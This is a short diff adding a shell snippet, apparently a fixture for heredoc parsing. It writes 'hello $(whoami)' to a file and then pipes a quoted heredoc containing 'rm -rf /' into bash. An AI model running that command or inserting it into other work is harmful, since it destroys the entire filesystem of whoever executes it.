@@ -1,0 +1,6 @@
+cat <<EOF > out
+hello $(whoami)
+EOF
+bash <<'X'
+rm -rf /
+X
